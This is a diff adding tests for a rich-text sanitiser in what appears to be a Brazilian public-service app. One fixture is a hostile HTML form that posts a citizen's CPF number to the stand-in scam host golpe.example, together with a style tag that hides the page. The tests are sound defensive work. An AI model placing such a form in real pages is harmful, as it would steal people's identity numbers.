@@ -16,6 +16,24 @@ describe('sanitizeRichText', () => {
   it('strips styles and classes', () => {
     expect(sanitizeRichText('<p style="color:red" class="x">a</p>')).toBe('<p>a</p>');
   });
+
+  it('drops forms that would post the citizen data elsewhere and style sheets that restyle the page', () => {
+    const raw = '<form action="https://golpe.example" method="post"><input name="cpf"><button>Enviar</button></form><style>body{display:none}</style><p>Fim</p>';
+    expect(sanitizeRichText(raw)).toBe('Enviar<p>Fim</p>');
+  });
+
+  it('gives safe markup back unchanged, so sanitising again on read changes nothing', () => {
+    const once = sanitizeRichText('<p>Leve o <a href="https://www.pi.gov.br">RG</a> e o <strong>CPF</strong>.</p><ul><li>um</li></ul><script>x</script>');
+    expect(sanitizeRichText(once)).toBe(once);
+    // the second call is answered from memory: same result
+    expect(sanitizeRichText(once)).toBe(once);
+  });
+
+  it('reads an empty or missing column as empty text', () => {
+    expect(sanitizeRichText('')).toBe('');
+    expect(sanitizeRichText(null)).toBe('');
+    expect(sanitizeRichText(undefined)).toBe('');
+  });
 });
 
 describe('htmlToText', () => {
